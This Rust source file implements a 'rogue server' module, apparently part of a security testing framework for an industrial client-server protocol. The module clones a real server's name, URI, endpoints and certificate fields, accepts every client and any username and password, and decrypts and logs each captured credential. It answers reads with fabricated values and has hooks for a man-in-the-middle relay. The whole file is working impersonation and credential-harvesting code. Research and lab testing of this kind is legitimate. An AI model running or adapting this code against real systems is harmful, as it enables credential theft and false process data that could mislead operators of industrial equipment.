//! Rogue server: a clone of a discovered benign server that accepts any
//! client, decrypts user credentials, and serves fabricated data.

use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::{Arc, Mutex};

use crate::codec::{NodeId, Value};
use crate::pki::{clone_certificate, generate_identity, Identity, TrustPolicy, TrustStore};
use crate::server::{serve, NodeStore, ServerConfig, ServerHandle, ServerHooks};

use super::{now_micros, AttackError, CapturedCredential, TargetDescriptor};

/// Generator for the fake values a rogue serves on reads.
pub type ValueFabricator = Arc<dyn Fn(&NodeId) -> Value + Send + Sync>;

/// Obviously wrong yet plausible-looking process value, so scenario
/// assertions can tell fabricated data from the real store.
pub fn default_fabricator() -> ValueFabricator {
    Arc::new(|_| Value::Double(1337.0))
}

pub struct RogueServerOptions {
    pub listen: SocketAddr,
    /// Answer every read with this generator's output.
    pub fabricator: Option<ValueFabricator>,
    pub transcript_dir: Option<PathBuf>,
    /// Extra hooks layered on top of the capture behavior; used by the
    /// middleperson to splice in forwarding.
    pub extra_hooks: ServerHooks,
}

impl Default for RogueServerOptions {
    fn default() -> Self {
        RogueServerOptions {
            listen: "127.0.0.1:0".parse().expect("static addr"),
            fabricator: Some(default_fabricator()),
            transcript_dir: None,
            extra_hooks: ServerHooks::default(),
        }
    }
}

/// A running rogue server and the credentials it has captured so far.
pub struct RogueServerHandle {
    server: ServerHandle,
    captured: Arc<Mutex<Vec<CapturedCredential>>>,
    pub identity: Identity,
}

impl RogueServerHandle {
    pub fn url(&self) -> String {
        self.server.url()
    }

    pub fn local_addr(&self) -> SocketAddr {
        self.server.local_addr()
    }

    pub fn captured(&self) -> Vec<CapturedCredential> {
        self.captured.lock().expect("capture log poisoned").clone()
    }

    pub fn stop(self) {
        self.server.stop();
    }
}

/// Stand up a clone of `target`: same application name and URI, same
/// endpoint modes, policies and token policies, and a certificate carrying
/// the same fields under a fresh key. The rogue never validates client
/// certificates and accepts any username/password, decrypting and
/// recording every credential presented to it.
pub fn rogue_server(
    target: &TargetDescriptor,
    options: RogueServerOptions,
) -> Result<RogueServerHandle, AttackError> {
    let identity = match &target.server_certificate {
        Some(record) => clone_certificate(record)?,
        None => {
            // Target offered no certificate (None-only server); a fresh
            // identity under the target's application URI still lets the
            // rogue offer secure endpoints.
            let name = target.application.application_name.display().into_owned();
            let name = if name.is_empty() { "RogueServer".to_string() } else { name };
            let uri = target.application.application_uri.as_text().into_owned();
            let uri = if uri.is_empty() { "urn:rogue:server".to_string() } else { uri };
            generate_identity(&name, &uri, 365, 2048)?
        }
    };

    let captured: Arc<Mutex<Vec<CapturedCredential>>> = Arc::new(Mutex::new(Vec::new()));
    let capture_sink = Arc::clone(&captured);

    let mut hooks = options.extra_hooks;
    hooks.accept_any_user = true;
    let previous_on_credential = hooks.on_credential.take();
    hooks.on_credential = Some(Arc::new(move |observed| {
        let credential = CapturedCredential {
            username: observed.username.clone(),
            password: observed.password.clone(),
            token_policy_uri: observed.token_policy_uri.clone(),
            captured_at_micros: now_micros(),
            victim_client_uri: observed.client_application_uri.clone(),
        };
        capture_sink.lock().expect("capture log poisoned").push(credential);
        if let Some(previous) = &previous_on_credential {
            previous(observed);
        }
    }));
    if hooks.read_override.is_none() {
        if let Some(fabricator) = options.fabricator {
            hooks.read_override = Some(Arc::new(move |node| Some(fabricator(node))));
        }
    }

    let mut endpoints = target.mirrored_endpoints();
    if endpoints.is_empty() {
        return Err(AttackError::NoUsableEndpoint);
    }
    // The clone must offer the secure endpoints even if the benign server
    // also had ones we cannot mirror.
    endpoints.dedup_by_key(|e| (e.security_mode, e.security_policy.uri()));

    let config = ServerConfig {
        identity: Some(identity.clone()),
        application_name: target.application.application_name.display().into_owned(),
        application_uri: target.application.application_uri.as_text().into_owned(),
        product_uri: target.application.product_uri.as_text().into_owned(),
        endpoints,
        trust_policy: TrustPolicy::AcceptAll,
        trust_store: Arc::new(Mutex::new(TrustStore::new())),
        users: Default::default(),
        anonymous_allowed: true,
        nodes: NodeStore::new(),
        listen: options.listen,
        plaintext_tokens_under_none: false,
        transcript_dir: options.transcript_dir,
        hooks,
    };
    let server = serve(config)?;
    Ok(RogueServerHandle { server, captured, identity })
}
